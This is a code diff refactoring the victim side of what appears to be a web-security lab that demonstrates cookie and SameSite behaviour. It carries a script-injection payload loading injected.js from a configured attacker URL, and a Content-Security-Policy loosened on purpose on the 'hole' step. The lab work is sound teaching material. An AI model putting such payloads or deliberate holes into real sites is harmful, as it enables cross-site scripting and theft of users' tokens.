@@ -4,16 +4,16 @@ from __future__ import annotations
 
 from urllib.parse import urlencode
 
-from flask import Blueprint, Flask, abort, current_app, redirect, render_template, request
+from flask import Blueprint, Flask, abort, redirect, render_template, request
 from flask import make_response as response_of
 from werkzeug.wrappers import Response
 
 from flask_service.security_headers import content_security_policy
 
 from . import cookies
-from .config import Config
+from .current import config, notebook_asked_for, notebooks
 from .experiments import EXPERIMENTS, MEASURED, measured, rows, shown, tone
-from .notebooks import Notebook, Notebooks
+from .notebooks import Notebook
 from .places import PLACES
 
 STEPS = ("hole", "strict", "hold", "tab", "opened", "again")
@@ -25,9 +25,8 @@ TOLD = {"strict": ("yes", "no"), "back": ("token", "page", "no")}
 blueprint = Blueprint("victim", __name__)
 
 
-def init_app(app: Flask, config: Config, notebooks: Notebooks) -> None:
+def init_app(app: Flask) -> None:
     """Give the application the victim's pages."""
-    app.extensions["lab"] = (config, notebooks)
     app.jinja_env.globals.update(
         places=PLACES.values(),
         experiments=EXPERIMENTS,
@@ -37,15 +36,6 @@ def init_app(app: Flask, config: Config, notebooks: Notebooks) -> None:
         tone=tone,
     )
     app.register_blueprint(blueprint)
-
-
-def notebook_asked_for() -> Notebook:
-    """Return the notebook that the address names; a page says so where there is none."""
-    notebooks: Notebooks = current_app.extensions["lab"][1]
-    try:
-        return notebooks.find(request.args.get("notebook", ""))
-    except KeyError:
-        abort(404)
 
 
 @blueprint.get("/")
@@ -58,8 +48,7 @@ def front_page() -> str:
 def begin() -> Response:
     """Sign the visitor in, and put the token where they chose."""
     place = PLACES.get(request.form.get("place", "")) or abort(400)
-    notebooks: Notebooks = current_app.extensions["lab"][1]
-    notebook = notebooks.open(request.form.get("notebook", ""), place)
+    notebook = notebooks().open(request.form.get("notebook", ""), place)
     response = redirect(_app(notebook, "hole", comment=_comment()), 303)
     cookies.put(response, notebook.run)
     return response
@@ -77,9 +66,8 @@ def app_page() -> Response:
     if step not in STEPS:
         abort(400)
     run = notebook.run
-    config: Config = current_app.extensions["lab"][0]
     following = {"hole": _app(notebook, "strict", comment=_comment())}.get(
-        step, f"{config.attacker_url}/visit?notebook={notebook.id}"
+        step, f"{config().attacker_url}/visit?notebook={notebook.id}"
     )
     page = render_template(
         "app.html",
@@ -90,7 +78,7 @@ def app_page() -> Response:
         unverified_comment=request.args.get("comment", ""),
     )
     response = response_of(page)
-    strangers = f" {config.attacker_url}" if step == "hole" else ""
+    strangers = f" {config().attacker_url}" if step == "hole" else ""
     response.headers["Content-Security-Policy"] = _policy(strangers)
     return response
 
@@ -134,10 +122,9 @@ def act(way: str) -> Response:
     if way not in FROM_ELSEWHERE:
         abort(404)
     notebook = notebook_asked_for()
-    config: Config = current_app.extensions["lab"][0]
     notebook.note_use(way, cookies.presented(request, notebook.run.place))
     if way == "form":
-        return redirect(f"{config.attacker_url}/visit?notebook={notebook.id}&then=link", 303)
+        return redirect(f"{config().attacker_url}/visit?notebook={notebook.id}&then=link", 303)
     if way == "link":
         # A page, and no redirect: a Strict cookie would not come along one that began elsewhere.
         return response_of(render_template("landing.html", next=_app(notebook, "hold")))
@@ -189,5 +176,4 @@ def _app(notebook: Notebook, step: str, **more: str) -> str:
 
 
 def _comment() -> str:
-    config: Config = current_app.extensions["lab"][0]
-    return f'Nice page! <script src="{config.attacker_url}/static/injected.js"></script>'
+    return f'Nice page! <script src="{config().attacker_url}/static/injected.js"></script>'
